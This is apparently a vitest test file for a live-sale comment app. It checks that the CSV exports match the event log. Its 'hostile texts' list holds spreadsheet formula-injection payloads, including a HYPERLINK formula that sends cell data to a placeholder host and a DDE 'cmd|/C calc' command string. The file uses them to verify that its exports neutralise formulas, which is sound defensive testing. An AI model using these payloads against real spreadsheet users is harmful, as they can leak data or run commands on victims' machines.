import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { ShowEvent } from '../../src/lib/domain/events.ts';
import { planUndo } from '../../src/lib/domain/undo.ts';
import { readEvents } from '../../src/lib/server/allocator/event-stream.ts';
import { asEvent } from '../../src/lib/server/event-schema.ts';
import { PLAIN_CSV } from '../../src/lib/server/exports/csv-style.ts';
import { exportText } from '../../src/lib/server/exports/export-file.ts';
import type { ExportFile } from '../../src/lib/server/exports/export-file.ts';
import { exportSource } from '../../src/lib/server/exports/source.ts';
import { readActionEvents } from '../../src/lib/server/history/action-events.ts';
import { createShow } from '../../src/lib/server/history/create-show.ts';
import { WorkspaceScope } from '../../src/lib/server/history/queries/scope.ts';
import type { Rehearsal } from '../../src/lib/server/rehearsal/format.ts';
import { Random } from '../../src/lib/server/rehearsal/generator/random.ts';
import { RehearsalPlayer } from '../../src/lib/server/rehearsal/player.ts';
import { loadRehearsal } from '../../src/lib/server/rehearsal/source.ts';
import { expectedFiles, readCsv, readLines } from './exports-model.ts';
import { ACTOR, createTestContext } from './harness.ts';
import type { TestContext } from './harness.ts';

const SEED = Number(process.env['SEED'] ?? Math.floor(Math.random() * 2 ** 31));
const STREAM_PAGE = 1_000;

let app: TestContext;
beforeAll(async () => {
	app = await createTestContext();
});
afterAll(() => app.close());

async function textOf(showId: string, file: ExportFile): Promise<string> {
	const show = await new WorkspaceScope(app.db, app.workspaceId).show(showId);
	const source = await exportSource(app.db, show, 'UTC');
	let text = '';
	for await (const piece of exportText(file, source, PLAIN_CSV)) text += piece;
	return text;
}

/** The log as Redis wrote it, before history had it. */
async function streamOf(showId: string): Promise<ShowEvent[]> {
	const events: ShowEvent[] = [];
	for (;;) {
		const page = await readEvents(app.redis, showId, events.length + 1, STREAM_PAGE);
		if (page.length === 0) return events;
		events.push(...page);
	}
}

/** Ends the show and compares its four files with the model. Returns the log. */
async function checkFiles(showId: string): Promise<ShowEvent[]> {
	await app.actions.changeStatus(showId, 'ended', ACTOR).catch(() => undefined);
	await app.settle(showId);
	const log = readLines(await textOf(showId, 'events.jsonl')).map(asEvent);
	expect(log).toEqual(await streamOf(showId));
	const { claims, buyers, comments } = expectedFiles(log);
	expect(readCsv(await textOf(showId, 'claims.csv'))).toEqual(claims);
	expect(readCsv(await textOf(showId, 'buyers.csv'))).toEqual(buyers);
	expect(readCsv(await textOf(showId, 'comments.csv'))).toEqual(comments);
	return log;
}

async function play(rehearsal: Rehearsal): Promise<string> {
	const { name, claimWord, passWord } = rehearsal.header;
	const showId = await createShow(app.db, {
		...{ workspaceId: app.workspaceId, name, claimWord, passWord, isRehearsal: true }
	});
	const { comments, actions } = app;
	await new RehearsalPlayer(showId, { comments, actions, speed: 0 }).play(rehearsal);
	return showId;
}

describe('the files are what the log says', () => {
	test('of the bundled rehearsal', async () => {
		const rehearsal = await loadRehearsal({ kind: 'bundled' });
		const log = await checkFiles(await play(rehearsal));
		const recorded = rehearsal.lines.flatMap(({ line }) =>
			line.type === 'comment' ? [line.commentId] : []
		);
		const logged = log.filter((event) => event.type === 'comment.received');
		expect(logged).toHaveLength(new Set(recorded).size);
		expect(log.some((event) => event.type === 'claim.promoted')).toBe(true);
	});

	test.each([0, 1, 2])(`of a generated one (seed ${SEED} + %i)`, async (n) => {
		const log = await checkFiles(
			await play(
				await loadRehearsal({
					...{ kind: 'generated', comments: 2_600, items: 9, minutes: 20, buyers: 90 },
					seed: (SEED + n) % 2 ** 31
				})
			)
		);
		expect(log.some((event) => event.type === 'claim.released')).toBe(true);
	});

	test('when places in the queue were given up and given back', async () => {
		const showId = await app.show({ '12': 1, '7': 2 });
		for (const user of ['a', 'b', 'c', 'd', 'e']) {
			await app.say(showId, user, 'sold 12');
			await app.say(showId, user, 'sold 7');
		}
		const target = { item: '12', buyerKey: 'facebook:c' };
		const done = await app.actions.release(showId, target, ACTOR);
		const plan = planUndo(await readActionEvents(app.redis, app.db, showId, done));
		if (!plan) throw new Error('the release can’t be undone');
		await app.actions.undo(showId, plan, ACTOR);
		await app.say(showId, 'a', 'pass 12');
		await app.say(showId, 'a', 'sold 12', { userHandle: '@renamed' });
		await app.say(showId, 'f', 'sold 12', { platform: 'instagram' });
		await checkFiles(showId);
		const claims = readCsv(await textOf(showId, 'claims.csv'));
		const waiting = claims.filter((row) => row[1] === '12' && row[5] === 'waitlist');
		// c was given back its place, ahead of d; its claim is the newest but two.
		expect(waiting.map((row) => `${row[3]} ${row[6]}`)).toEqual([
			"'@d 2",
			"'@e 3",
			"'@c 1",
			"'@renamed 4",
			"'@f 5"
		]);
	});

	test('of an item whose number was given to another one', async () => {
		const showId = await app.show({ '12': 1 });
		await app.say(showId, 'a', 'sold 12');
		await app.say(showId, 'a', 'pass 12');
		await app.actions.removeItem(showId, '12', ACTOR);
		const again = { number: '12', title: 'Another one', quantity: 0 };
		await app.actions.addItem(showId, again, ACTOR);
		await app.say(showId, 'a', 'sold 12');
		await checkFiles(showId);
		const claims = readCsv(await textOf(showId, 'claims.csv')).slice(1);
		expect(claims.map((row) => row.slice(2))).toEqual([
			['Item 12', "'@a", 'facebook', 'released', ''],
			['Another one', "'@a", 'facebook', 'waitlist', '1']
		]);
		expect(await textOf(showId, 'buyers.csv')).toBe('user_handle,items_claimed,total_items\r\n');
	});

	test('of a show in which nothing happened', async () => {
		const showId = await app.show({});
		expect(await checkFiles(showId)).toHaveLength(2);
		expect(await textOf(showId, 'claims.csv')).toBe(
			'timestamp,item_number,item_title,user_handle,platform,status,waitlist_position\r\n'
		);
	});
});

const HOSTILE = [
	'=1+1',
	'=HYPERLINK("http://x.example/?q="&A1,"sold 12")',
	"@SUM(1+1)*cmd|' /C calc'!A0",
	'+49 170 1234567 sold 12',
	'-2+3',
	'\tsold 12',
	'  =1+1',
	'"=1+1"',
	'＝1+1 ',
	'\u202e=1+1',
	'sold 12;=1+1',
	'line one\nsold 12\nline three',
	'line one\r\nline two',
	'"quoted", and, commas""',
	'sold 12 💕👩‍👩‍👧‍👦',
	'שלום sold 12 عربى',
	'nul\u0000 and \u0007bell',
	'broken \ud83d half',
	'',
	' ',
	'"'.repeat(8_000),
	`=${'x'.repeat(8_500)}`
];

describe('hostile texts', () => {
	test('arrive whole, in one cell, and start no formula', async () => {
		const showId = await app.show({ '12': 3 });
		await app.actions.editItem(showId, '12', '=cmd, "the" dress', ACTOR);
		for (const [index, text] of HOSTILE.entries()) {
			const userHandle = index % 2 === 0 ? text.slice(0, 200) : `user, "${index}"`;
			await app.say(showId, `u${index}`, text, { userHandle });
		}
		await checkFiles(showId);
		for (const file of ['claims.csv', 'buyers.csv', 'comments.csv'] as const) {
			const text = await textOf(showId, file);
			expect(text).not.toContain('\u0000');
			const cells = readCsv(text).flat();
			expect(cells.filter((cell) => /^[\s"]*[=+\-@＝\t\r]/.test(cell))).toEqual([]);
		}
		expect(await textOf(showId, 'comments.csv')).toContain('"line one\nsold 12\nline three"');
		expect(await textOf(showId, 'claims.csv')).toContain(`"'=cmd, ""the"" dress"`);
	});

	test(`made up at random stay what they are (seed ${SEED})`, async () => {
		const random = new Random(SEED);
		const alphabet = [...'ab12 ,;"\'=+-@\t\n\r＝＠💕é\u200b\u00a0', 'sold 12', '""', '\r\n'];
		const showId = await app.show({ '12': 2 });
		for (let n = 0; n < 300; n++) {
			const pick = (): string => alphabet[random.int(0, alphabet.length - 1)] ?? '';
			const text = Array.from({ length: random.int(0, 9) }, pick).join('');
			await app.say(showId, `u${n}`, text, {
				userHandle: Array.from({ length: 4 }, pick).join('')
			});
		}
		const texts = (await checkFiles(showId)).flatMap((event) =>
			event.type === 'comment.received' ? [event.data.text] : []
		);
		const cells = readCsv(await textOf(showId, 'comments.csv')).slice(1);
		const unlike = texts.filter((text, n) => ![text, `'${text}`].includes(cells[n]?.[3] ?? '?'));
		expect(unlike).toEqual([]);
	});
});
